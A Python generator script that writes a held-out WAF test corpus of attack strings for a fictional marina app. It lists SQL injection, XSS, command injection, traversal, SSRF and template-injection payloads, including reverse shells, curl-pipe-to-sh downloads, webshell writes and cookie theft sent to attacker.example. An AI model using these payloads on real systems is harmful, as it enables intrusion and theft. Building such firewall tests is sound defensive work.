#!/usr/bin/env python3
"""Attack values for the marina held-out WAF corpus.

Standard library only. Writes attacks.jsonl next to this file.
Almost every value is a hand-written literal (category, class, value).
A small computed part joins hand-written marina prefixes to hand-written
payloads, or applies one encoding to a hand-written payload.
"""
import json
import os
import random

SEED = 17202
PREFIX = "hafg"

rng = random.Random(SEED)

# ---------------------------------------------------------------------------
# SQL injection
# ---------------------------------------------------------------------------
SQLI = [
    ("note-union-select", "Slip B-14' UNION SELECT username, password_hash FROM staff_users-- -"),
    ("note-union-select", "Reel Therapy' UNION ALL SELECT NULL,NULL,card_number,NULL FROM fuel_payments#"),
    ("search-union-select", "%' UNION SELECT table_name,2,3 FROM information_schema.tables WHERE table_schema=database()-- "),
    ("number-union-select", "14 UNION SELECT 1,concat(login,0x3a,pass),3,4 FROM harbormaster_accounts"),
    ("note-boolean", "D-11' AND 1=1 AND 'x'='x"),
    ("note-boolean", "Sea Biscuit' OR '1'='1"),
    ("plain-boolean", "' OR 1=1-- "),
    ("number-boolean", "42 OR 1=1"),
    ("note-boolean", "Blue Heron' OR 'a'<>'b' -- slip search"),
    ("note-boolean-like", "Tideline' OR owner_name LIKE '%' -- "),
    ("search-boolean-subquery", "kayak' AND (SELECT COUNT(*) FROM guest_bookings)>0 AND 'q'='q"),
    ("note-stacked-drop", "haul-out Oct 14'; DROP TABLE haulout_schedule;-- "),
    ("note-stacked-update", "C-22'; UPDATE slip_invoices SET balance=0 WHERE owner_id=318;--"),
    ("note-stacked-insert", "pump-out 20 gal'); INSERT INTO staff_users(login,pass,role) VALUES('dockhand2','x','admin');--"),
    ("mssql-stacked-xpcmdshell", "Slip A-7'; EXEC master..xp_cmdshell 'ping 203.0.113.7';--"),
    ("mssql-time-waitfor", "B-14'; WAITFOR DELAY '0:0:7'--"),
    ("mssql-time-waitfor", "1; IF (SELECT TOP 1 SUBSTRING(pass,1,1) FROM staff_users)='a' WAITFOR DELAY '0:0:5'--"),
    ("mysql-time-sleep", "Osprey' AND SLEEP(6)-- -"),
    ("mysql-time-sleep", "12 AND (SELECT 1 FROM (SELECT SLEEP(8))x)"),
    ("mysql-time-benchmark", "Seas the Day' AND BENCHMARK(9000000,MD5('marina'))#"),
    ("pgsql-time-sleep", "E-5'; SELECT pg_sleep(7);--"),
    ("pgsql-time-conditional", "1 AND 4411=(CASE WHEN (SELECT current_user)='postgres' THEN (SELECT 4411 FROM pg_sleep(6)) ELSE 4411 END)"),
    ("oracle-time-dbmspipe", "F-18' AND 7=DBMS_PIPE.RECEIVE_MESSAGE('a',8) AND 'a'='a"),
    ("sqlite-time-randomblob", "dinghy' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))--"),
    ("mysql-error-extractvalue", "D-9' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT version()),0x7e))-- -"),
    ("mysql-error-updatexml", "Knot Working' AND UPDATEXML(1,CONCAT(0x5c,(SELECT user())),1)#"),
    ("mssql-error-convert", "G-4' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.tables))--"),
    ("pgsql-error-cast", "H-7' AND 1=CAST((SELECT string_agg(usename,',') FROM pg_user) AS int)--"),
    ("oracle-error-ctxsys", "A-3' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))--"),
    ("oracle-union-dual", "Pier Pressure' UNION SELECT banner,NULL FROM v$version WHERE ROWNUM=1--"),
    ("mysql-outfile", "x' UNION SELECT '<?php system($_GET[c]); ?>',2 INTO OUTFILE '/var/www/html/dock.php'-- -"),
    ("mysql-loadfile", "0 UNION SELECT LOAD_FILE('/etc/passwd'),2,3"),
    ("pgsql-copy-program", "1'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/m|sh';--"),
    ("mssql-oob-dirtree", "Slip C-1'; EXEC master..xp_dirtree '\\\\203.0.113.9\\share';--"),
    ("oracle-oob-utlhttp", "x' || UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) || '"),
    ("mysql-oob-unc", "1 AND LOAD_FILE(CONCAT('\\\\\\\\',(SELECT hex(pass) FROM staff_users LIMIT 1),'.oob.attacker.example\\\\a'))"),
    ("sort-orderby-injection", "loa_ft,(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)"),
    ("sort-orderby-injection", "slip_id ASC, IF(ASCII(SUBSTRING((SELECT pass FROM staff_users LIMIT 1),1,1))>77,SLEEP(4),0)"),
    ("number-orderby-probe", "3 ORDER BY 9-- -"),
    ("limit-procedure-analyse", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)"),
    ("comment-as-space", "Osprey'/**/UNION/**/SELECT/**/login,pass/**/FROM/**/staff_users--"),
    ("comment-as-space-mysql-versioned", "1/*!50000UNION*//*!50000SELECT*/1,2,group_concat(email)/**/FROM/**/customers"),
    ("case-mixing", "Slip D-2' uNiOn SeLeCt NuLl,cOnCaT(login,0x3a,pass) fRoM staff_users-- -"),
    ("newline-as-space", "Fuel 12 gal'\nUNION\nSELECT\nusername,\npassword\nFROM\nstaff_users--\n"),
    ("tab-as-space", "kayak'\tOR\t1=1\t--\t"),
    ("paren-no-space", "'OR(1)=(1)#"),
    ("hex-string-literal", "1 UNION SELECT 1,pass FROM staff_users WHERE login=0x686172626f726d6173746572"),
    ("char-function-evasion", "' OR owner_name=CHAR(97,100,109,105,110)-- "),
    ("oracle-concat-chr", "' OR login=CHR(97)||CHR(100)||CHR(109)||CHR(105)||CHR(110)--"),
    ("pgsql-dollar-quote", "1; SELECT $$x$$ FROM pg_sleep(5)--"),
    ("mssql-bracket-identifiers", "1;SELECT [pass] FROM [dbo].[staff_users];--"),
    ("backslash-escape-bypass", "Wind Song\\' OR 1=1-- -"),
    ("double-quote-context", "Salty Dog\" OR \"1\"=\"1\" -- "),
    ("json-column-mysql", "x' OR JSON_EXTRACT(settings,'$.role')='admin'-- -"),
    ("pgsql-json-operator", "1 OR (SELECT data->>'card' FROM payments LIMIT 1) IS NOT NULL"),
    ("sqlite-master-union", "' UNION SELECT name, sql FROM sqlite_master--"),
    ("sqlite-attach", "x'; ATTACH DATABASE '/var/www/html/s.php' AS p; CREATE TABLE p.t(c text); INSERT INTO p.t VALUES('<?php system($_GET[0]);?>');--"),
    ("hql-injection", "Nautilus' and (select count(*) from StaffUser u where u.role='ADMIN')>0 and ''='"),
    ("insert-value-subquery", "great stay!', (SELECT pass FROM staff_users LIMIT 1))-- "),
    ("second-order-boat-name", "Liquid Asset'); DELETE FROM slip_assignments WHERE ('1'='1"),
    ("like-wildcard-boolean", "Sea%' AND SUBSTRING(@@version,1,1)='8' AND '%'='"),
    ("having-error", "1 GROUP BY slip_id HAVING 1=1--"),
    ("boolean-substring-blind", "B-14' AND ASCII(SUBSTRING((SELECT pass FROM staff_users WHERE login='dana'),1,1))>96 AND 'a'='a"),
    ("mssql-openrowset", "1; SELECT * FROM OPENROWSET('SQLOLEDB','server=203.0.113.5;uid=sa;pwd=x','SELECT 1')--"),
    ("invoice-id-numeric-union", "INV-24-1019' UNION SELECT id,card_number,exp,cvv FROM stored_cards-- -"),
    ("url-encoded+urlencode", "B-14%27%20UNION%20SELECT%20login%2Cpass%20FROM%20staff_users--%20-"),
    ("double-url-encoded+doubleurlencode", "D-11%2527%2520OR%25201%253D1--%2520"),
    ("fullwidth-quote", "Osprey\uff07 OR 1=1-- "),
    ("unicode-escape-json", "Serenity\\u0027 UNION SELECT pass FROM staff_users--"),
    ("mysql-conditional-comment-or", "0'/*!OR*/'1'='1"),
    ("scientific-notation-bypass", "0e0UNION SELECT login,pass FROM staff_users"),
    ("between-evasion", "' OR 2 BETWEEN 1 AND 3-- "),
]

# ---------------------------------------------------------------------------
# XSS
# ---------------------------------------------------------------------------
XSS = [
    ("note-script-tag", "Slip B-14 is free <script>fetch('//attacker.example/c?'+document.cookie)</script>"),
    ("plain-script-tag", "<script>alert(document.domain)</script>"),
    ("boatname-img-onerror", "Sea Biscuit<img src=x onerror=alert(1)>"),
    ("boatname-svg-onload", "Reel Therapy <svg onload=alert(document.cookie)>"),
    ("note-svg-onload-slash", "Fuel 40 gal<svg/onload=location='//attacker.example/?c='+document.cookie>"),
    ("attr-breakout-dq", "\" onmouseover=\"alert(1)\" x=\""),
    ("attr-breakout-sq", "O'Connell' autofocus onfocus='alert(document.cookie)"),
    ("attr-breakout-tag", "\"><img src=x onerror=alert(origin)>"),
    ("textarea-breakout", "great slip!</textarea><script>alert(1)</script>"),
    ("title-breakout", "</title><svg onload=alert(1)>"),
    ("script-string-breakout", "';alert(document.cookie);//"),
    ("script-string-breakout-dq", "\";fetch('https://attacker.example/'+localStorage.token);//"),
    ("script-block-breakout", "</script><script>alert(1)</script>"),
    ("template-literal-breakout", "${alert(document.domain)}"),
    ("javascript-url-link", "javascript:alert(document.cookie)"),
    ("javascript-url-case-tab", "JaVa\tScRiPt:alert(1)"),
    ("javascript-url-entities", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)"),
    ("javascript-url-hex-entities", "&#x6A;avascript&#x3A;alert(document.domain)"),
    ("data-url-html", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("markdown-link-javascript", "Tide chart: [NOAA 8467150](javascript:alert(document.cookie))"),
    ("markdown-image-onerror", "![slip map](x\" onerror=\"alert(1))"),
    ("iframe-srcdoc", "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>"),
    ("iframe-javascript", "<iframe src=\"javascript:alert(`xss`)\">"),
    ("body-onload", "<body onload=alert('harbor')>"),
    ("details-ontoggle", "Winter storage notes <details open ontoggle=alert(1)>"),
    ("input-autofocus", "<input autofocus onfocus=alert(document.cookie)>"),
    ("video-source-onerror", "<video><source onerror=\"alert(1)\"></video>"),
    ("audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>Welcome aboard</marquee>"),
    ("object-data-javascript", "<object data=\"javascript:alert(1)\"></object>"),
    ("embed-svg-data", "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">"),
    ("form-action-javascript", "<form action=javascript:alert(1)><button>Pay invoice</button></form>"),
    ("button-formaction", "<button formaction=javascript:alert(1)>Book slip</button>"),
    ("a-href-javascript", "<a href=\"javascript:fetch('//attacker.example/?'+document.cookie)\">Tide table</a>"),
    ("svg-animate-href", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Map</text></a></svg>"),
    ("svg-set-onbegin", "<svg><set attributeName=x onbegin=alert(1)>"),
    ("math-href", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("link-import-css", "<link rel=stylesheet href=//attacker.example/x.css>"),
    ("meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"),
    ("base-href-hijack", "<base href=\"//attacker.example/\">"),
    ("entity-encoded-tag", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("html-entity-in-handler", "<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;\">"),
    ("unicode-escape-js", "<script>\\u0061lert(document.cookie)</script>"),
    ("js-fromcharcode", "<script>eval(String.fromCharCode(97,108,101,114,116,40,49,41))</script>"),
    ("atob-eval", "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"),
    ("backtick-call", "<svg onload=alert`1`>"),
    ("no-parens-throw", "<svg onload=\"window.onerror=alert;throw 1\">"),
    ("case-mixing-tag", "<ScRiPt>alert(1)</sCrIpT>"),
    ("nested-tag-filter-bypass", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("slash-separator", "<img/src=x/onerror=alert(1)>"),
    ("newline-in-handler", "<img src=x\nonerror\n=\nalert(1)>"),
    ("url-encoded+urlencode", "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
    ("double-url-encoded+doubleurlencode", "%253Csvg%2520onload%253Dalert(1)%253E"),
    ("utf7-charset", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    ("fullwidth-brackets", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    ("angularjs-csti", "{{constructor.constructor('alert(1)')()}}"),
    ("angularjs-csti-sandbox", "{{$on.constructor('alert(document.cookie)')()}}"),
    ("vue-csti", "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>"),
    ("dom-hash-injection", "#\"><img src=x onerror=alert(1)>"),
    ("jsonp-callback", "alert(document.cookie)//"),
    ("chat-img-cookie-steal", "Arriving 4pm! <img src=x onerror=\"new Image().src='https://attacker.example/l?c='+encodeURIComponent(document.cookie)\">"),
    ("harbormaster-notice-keylogger", "NOTICE: gate code changes Monday <script src=https://attacker.example/k.js></script>"),
    ("csv-import-script", "B-14,\"<script>alert(1)</script>\",32,118.00"),
    ("svg-file-name", "slipmap<svg onload=alert(1)>.svg"),
    ("event-handler-onpointerenter", "<div onpointerenter=alert(1) style=position:fixed;inset:0>Tide</div>"),
    ("popover-onbeforetoggle", "<button popovertarget=p>Rates</button><div popover id=p onbeforetoggle=alert(1)>x</div>"),
    ("style-tag-breakout", "</style><img src=x onerror=alert(1)>"),
    ("noscript-mxss", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("xmp-breakout", "<xmp><p title=\"</xmp><svg onload=alert(1)>\">"),
    ("comment-breakout", "--><svg onload=alert(1)><!--"),
    ("cdata-svg", "<svg><![CDATA[><image href=x onerror=alert(1)>]]></svg>"),
    ("srcset-onerror", "<img srcset=\",,,,,x\" onerror=alert(1)>"),
    ("iframe-onload-location", "<iframe onload=\"top.location='https://attacker.example/phish'\">"),
    ("setTimeout-string", "<img src=x onerror=setTimeout('ale'+'rt(1)')>"),
    ("import-dynamic", "<img src=x onerror=import('//attacker.example/m.js')>"),
]

# ---------------------------------------------------------------------------
# Command injection (shell line, CLI argument, Windows, PowerShell)
# ---------------------------------------------------------------------------
CMDI = [
    ("note-semicolon", "slip_B-14.pdf; cat /etc/passwd"),
    ("note-semicolon", "fuel_sales_2024-09.csv; curl http://attacker.example/s.sh | sh"),
    ("note-and-and", "export.csv && wget -qO- http://203.0.113.12/x | bash"),
    ("note-or-or", "missing.csv || nc 203.0.113.44 4444 -e /bin/sh"),
    ("pipe", "tide.txt | id"),
    ("pipe", "Sea Biscuit | bash -i >& /dev/tcp/203.0.113.7/9001 0>&1"),
    ("subshell-dollar", "INV-24-1019 $(curl -s http://attacker.example/`whoami`)"),
    ("subshell-backtick", "boat name `uname -a`"),
    ("newline-separator", "harbor.jpg\nrm -rf /var/backups/marina"),
    ("encoded-newline+urlencode", "harbor.jpg%0aid%0a"),
    ("plain-reverse-shell", "; bash -c 'bash -i >& /dev/tcp/203.0.113.50/443 0>&1'"),
    ("plain-python-revshell", "; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.8\",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("ping-host-field", "203.0.113.1; cat /etc/shadow"),
    ("ping-host-field", "8.8.8.8 && curl -d @/etc/passwd http://attacker.example/"),
    ("ping-host-count-arg", "-c 1 127.0.0.1 ; sleep 10"),
    ("ifs-space-bypass", "B-14;cat${IFS}/etc/passwd"),
    ("ifs-space-bypass", "x;wget${IFS}http://attacker.example/a${IFS}-O${IFS}/tmp/a;sh${IFS}/tmp/a"),
    ("brace-expansion", "tide.csv;{cat,/etc/passwd}"),
    ("quote-split-evasion", "report.pdf;c'a't /e\"t\"c/pa''sswd"),
    ("backslash-evasion", "x; w\\h\\o\\a\\m\\i"),
    ("wildcard-evasion", "x;/???/c?t /???/p??s??"),
    ("variable-concat-evasion", "x;a=ca;b=t;$a$b /etc/passwd"),
    ("base64-pipe", "x; echo Y3VybCBodHRwOi8vYXR0YWNrZXIuZXhhbXBsZS94fHNo | base64 -d | sh"),
    ("hex-printf", "x;$(printf '\\x69\\x64')"),
    ("time-sleep", "C-22`sleep 7`"),
    ("time-sleep", "slip.pdf$(sleep 9)"),
    ("oob-dns", "x;nslookup $(whoami).oob.attacker.example"),
    ("oob-dns", "photo.jpg;dig +short `hostname`.attacker.example"),
    ("redirect-write-webshell", "x; echo '<?php system($_GET[1]);?>' > /var/www/html/tide.php"),
    ("crontab-persistence", "x; (crontab -l; echo '* * * * * curl attacker.example/b|sh') | crontab -"),
    ("ssh-key-persistence", "x; echo 'ssh-ed25519 AAAAC3NzaFAKEKEY attacker@attacker.example' >> ~/.ssh/authorized_keys"),
    ("argi-tar-checkpoint", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/dock.sh"),
    ("argi-find-exec", "-exec curl http://attacker.example/f ;"),
    ("argi-curl-output", "-o /var/www/html/shell.php http://attacker.example/shell.txt"),
    ("argi-curl-upload", "--upload-file /etc/passwd http://attacker.example/"),
    ("argi-wget-post-file", "--post-file=/etc/shadow http://attacker.example/"),
    ("argi-ssh-proxycommand", "-oProxyCommand=curl${IFS}attacker.example/p|sh harbor-gw"),
    ("argi-git-upload-pack", "--upload-pack=touch /tmp/pwned"),
    ("argi-rsync-e", "-e 'sh -c \"id>/tmp/x\"' backup@127.0.0.1:/srv"),
    ("argi-zip-tt", "-T -TT 'sh -c id' invoices.zip"),
    ("argi-sendmail-X", "harbor@harborview-marina.example -OQueueDirectory=/tmp -X/var/www/html/log.php"),
    ("argi-imagemagick", "slip_photo.jpg -write /var/www/html/x.php"),
    ("argi-ffmpeg", "-i http://attacker.example/x.m3u8 -f null -"),
    ("argi-psql-c", "-c \"COPY (SELECT 1) TO PROGRAM 'id'\""),
    ("argi-awk-system", "'BEGIN {system(\"id\")}'"),
    ("argi-sed-e", "-e '1e id' /etc/hosts"),
    ("win-ampersand", "slip.pdf & type C:\\Windows\\win.ini"),
    ("win-pipe", "report.xlsx | whoami /all"),
    ("win-double-ampersand", "x && net user harbor P4ss!Fake /add && net localgroup administrators harbor /add"),
    ("win-certutil", "x & certutil -urlcache -split -f http://attacker.example/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe"),
    ("win-caret-evasion", "x & w^h^o^a^m^i"),
    ("win-env-substring", "x & %COMSPEC:~-7,1%%COMSPEC:~-6,1%oami"),
    ("win-powershell-iex", "x; powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/p.ps1')\""),
    ("win-powershell-enc", "x & powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBhAHQAdABhAGMAawBlAHIALgBlAHgAYQBtAHAAbABlACkA"),
    ("powershell-subexpression", "$(Invoke-WebRequest -Uri http://attacker.example/x -OutFile C:\\Users\\Public\\x.exe)"),
    ("powershell-semicolon", "tide.csv'; Start-Process calc.exe; '"),
    ("win-mshta", "x | mshta http://attacker.example/a.hta"),
    ("win-rundll32", "x & rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)"),
    ("perl-open-pipe", "| /usr/bin/id"),
    ("ruby-open-pipe", "|curl http://attacker.example/r|sh"),
    ("note-fuel-receipt-semicolon", "Receipt #F-100233; curl -F f=@/srv/marina/.env http://attacker.example/u"),
    ("filename-dollar-subshell", "haulout_$(id>/tmp/p).pdf"),
    ("env-ld-preload", "LD_PRELOAD=/tmp/evil.so /usr/bin/convert slip.jpg out.png"),
    ("busybox-telnetd", "; busybox telnetd -l /bin/sh -p 9999"),
    ("double-url-encoded+doubleurlencode", "x%253Bcat%2520%252Fetc%252Fpasswd"),
    ("process-substitution", "x;cat <(id)"),
]

# ---------------------------------------------------------------------------
# Path traversal / file inclusion
# ---------------------------------------------------------------------------
TRAVERSAL = [
    ("plain-dotdot", "../../../../etc/passwd"),
    ("export-path-dotdot", "exports/billing/2024-10/../../../../../etc/shadow"),
    ("invoice-pdf-dotdot", "invoices/2024/../../../../../var/www/.env"),
    ("slip-photo-dotdot", "slips/E-dock/../../../../root/.ssh/id_rsa"),
    ("absolute-path", "/etc/passwd"),
    ("absolute-proc", "/proc/self/environ"),
    ("proc-cmdline", "../../../../proc/self/cmdline"),
    ("windows-backslash", "..\\..\\..\\..\\Windows\\win.ini"),
    ("windows-absolute", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("windows-unc", "\\\\203.0.113.20\\share\\tide.csv"),
    ("windows-mixed-slash", "..\\../..\\../inetpub/wwwroot/web.config"),
    ("url-encoded+urlencode", "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("url-encoded-slash-only", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("double-url-encoded+doubleurlencode", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("overlong-utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("overlong-utf8-slash", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("overlong-utf8-backslash", "..%c1%9c..%c1%9c..%c1%9cwindows%c1%9cwin.ini"),
    ("percent-u-encoding", "%u002e%u002e%u002f%u002e%u002e%u002f%u002e%u002e%u002fetc%u002fpasswd"),
    ("percent-u-dot", "..%u005c..%u005c..%u005cwindows%u005cwin.ini"),
    ("fullwidth-dots", "\uff0e\uff0e/\uff0e\uff0e/\uff0e\uff0e/etc/passwd"),
    ("nested-strip-bypass", "....//....//....//....//etc/passwd"),
    ("nested-strip-bypass-backslash", "....\\\\....\\\\....\\\\windows\\\\win.ini"),
    ("dot-slash-padding", "./.././.././.././../etc/hosts"),
    ("null-byte-extension", "../../../../etc/passwd%00.pdf"),
    ("null-byte-extension", "../../../etc/passwd\x00.csv"),
    ("path-truncation", "../../../../etc/passwd/././././././././././././././././././././././././././././././."),
    ("semicolon-path-param", "/static/..;/..;/WEB-INF/web.xml"),
    ("tomcat-webinf", "../WEB-INF/classes/application.properties"),
    ("php-wrapper-filter", "php://filter/convert.base64-encode/resource=../config/database.php"),
    ("php-wrapper-filter-chain", "php://filter/read=string.rot13/resource=index.php"),
    ("php-wrapper-input", "php://input"),
    ("php-wrapper-data", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg=="),
    ("php-wrapper-expect", "expect://id"),
    ("php-wrapper-zip", "zip:///var/www/uploads/slip_photo.jpg%23shell.php"),
    ("php-wrapper-phar", "phar:///var/www/uploads/haulout.jpg/x.php"),
    ("file-scheme", "file:///etc/passwd"),
    ("log-poisoning-include", "../../../../var/log/nginx/access.log"),
    ("session-file-include", "../../../../var/lib/php/sessions/sess_fakesessionid"),
    ("git-config", "../../.git/config"),
    ("dotenv", "../.env"),
    ("aws-credentials", "../../../../home/ubuntu/.aws/credentials"),
    ("k8s-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("template-name-traversal", "emails/../../../../etc/passwd"),
    ("zip-slip-entry", "../../../../../var/www/html/cmd.jsp"),
    ("mixed-encoding", "..%5c..%5c..%5c..%5cwindows%5cwin.ini"),
    ("double-encoded-backslash+doubleurlencode", "..%255c..%255c..%255cboot.ini"),
    ("iis-short-name", "/..%5c..%5c..%5cwindows/system32/cmd.exe?/c+dir"),
    ("import-csv-path", "Import from: ../../../../../../etc/passwd"),
    ("backup-restore-path", "restore=/srv/marina/../../etc/shadow"),
    ("java-classpath-traversal", "classpath:../../../../etc/passwd"),
]

# ---------------------------------------------------------------------------
# SSRF (fetched URL context: tide feed, webhook, avatar, import by URL)
# ---------------------------------------------------------------------------
SSRF = [
    ("plain-metadata-aws", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("tide-feed-metadata", "http://169.254.169.254/latest/user-data"),
    ("metadata-gcp", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("metadata-azure", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    ("metadata-alibaba", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("metadata-oracle", "http://169.254.169.254/opc/v2/instance/"),
    ("metadata-ecs-task", "http://169.254.170.2/v2/credentials/"),
    ("metadata-decimal-ip", "http://2852039166/latest/meta-data/"),
    ("metadata-hex-ip", "http://0xa9fea9fe/latest/meta-data/"),
    ("metadata-octal-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("metadata-mixed-ip", "http://169.0xfe.43518/latest/meta-data/"),
    ("metadata-ipv6-mapped", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    ("metadata-aws-ipv6", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("loopback-plain", "http://127.0.0.1:8080/admin/"),
    ("loopback-short", "http://127.1/server-status"),
    ("loopback-zero", "http://0.0.0.0:6379/"),
    ("loopback-zero-short", "http://0/admin"),
    ("loopback-ipv6", "http://[::1]:2375/containers/json"),
    ("loopback-localhost", "http://localhost:9200/_cat/indices"),
    ("loopback-decimal", "http://2130706433:8500/v1/agent/self"),
    ("loopback-dns-rebind-name", "http://127.0.0.1.nip.io/internal/billing"),
    ("rfc1918-admin", "http://10.0.0.5:8080/manager/html"),
    ("rfc1918-router", "http://192.168.1.1/cgi-bin/luci"),
    ("rfc1918-172", "http://172.16.0.10:5984/_all_dbs"),
    ("internal-service-name", "http://billing-db.internal:5432/"),
    ("internal-k8s-api", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("internal-consul", "http://consul.service.consul:8500/v1/kv/?recurse"),
    ("userinfo-confusion", "http://tides.noaa.gov@127.0.0.1/admin"),
    ("userinfo-confusion", "https://weather.example.com@169.254.169.254/latest/meta-data/"),
    ("fragment-confusion", "http://127.0.0.1:8080#@tides.noaa.gov/"),
    ("backslash-confusion", "http://attacker.example\\@tides.noaa.gov/"),
    ("redirect-open", "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/"),
    ("redirect-307", "http://r.attacker.example/307?u=http%3A%2F%2F127.0.0.1%3A8080%2Fadmin"),
    ("dns-rebind", "http://rebind.attacker.example/latest/meta-data/"),
    ("gopher-redis", "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0AFLUSHALL%0D%0A%2A3%0D%0A%243%0D%0ASET%0D%0A%241%0D%0Ax%0D%0A%2420%0D%0A%0A%0A%2A%2F1%20%2A%20%2A%20%2A%20%2A%20id%0A%0A%0D%0A"),
    ("gopher-smtp", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cx%40attacker.example%3E%0D%0A"),
    ("dict-scheme", "dict://127.0.0.1:11211/stats"),
    ("file-scheme", "file:///proc/self/environ"),
    ("ftp-internal", "ftp://10.0.0.20/backups/marina.sql"),
    ("ldap-scheme", "ldap://127.0.0.1:389/dc=marina,dc=local"),
    ("tftp-scheme", "tftp://203.0.113.30/x"),
    ("jar-scheme", "jar:http://attacker.example/evil.jar!/"),
    ("netdoc-scheme", "netdoc:///etc/passwd"),
    ("webhook-internal", "Webhook URL for fuel sales: http://10.10.1.4:8081/actuator/env"),
    ("avatar-url-internal", "Boat photo URL: http://192.168.0.50/api/v1/users?admin=true"),
    ("enclosed-alphanumerics", "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/admin"),
    ("url-encoded-host+urlencode", "http://%31%36%39%2e%32%35%34%2e%31%36%39%2e%32%35%34/latest/meta-data/"),
    ("trailing-dot-host", "http://localhost./admin/export"),
    ("ip-with-zeros", "http://127.000.000.001/"),
    ("wildcard-dns", "http://169.254.169.254.sslip.io/latest/meta-data/"),
]

# ---------------------------------------------------------------------------
# Code injection: SSTI, EL/OGNL/SpEL, eval, Log4Shell, prototype pollution,
# CSV/DDE, XXE/XInclude, deserialization
# ---------------------------------------------------------------------------
CODE = [
    ("ssti-jinja2", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("ssti-jinja2-note", "Dear {{ customer_name }}, {{ self.__init__.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read() }}"),
    ("ssti-jinja2-mro", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("ssti-jinja2-attr-filter", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}"),
    ("ssti-jinja2-lipsum", "{{ lipsum.__globals__['os'].popen('curl attacker.example/j|sh').read() }}"),
    ("ssti-jinja2-statement", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c('id',shell=True,stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("ssti-twig", "{{ ['id']|filter('system') }}"),
    ("ssti-twig-map", "{{ ['cat /etc/passwd']|map('passthru')|join }}"),
    ("ssti-twig-env", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"),
    ("ssti-freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("ssti-freemarker-api", "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",[\"id\"]).start()}"),
    ("ssti-velocity", "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("ssti-thymeleaf", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("ssti-smarty", "{system('id')}"),
    ("ssti-smarty-php", "{php}echo `id`;{/php}"),
    ("ssti-mako", "${__import__('os').popen('id').read()}"),
    ("ssti-mako-block", "<% import os; x=os.popen('whoami').read() %>${x}"),
    ("ssti-tornado", "{% import os %}{{ os.popen('id').read() }}"),
    ("ssti-erb", "<%= `id` %>"),
    ("ssti-erb-system", "Invoice for <%= system('cat /etc/passwd') %>"),
    ("ssti-slim", "#{ %x|id| }"),
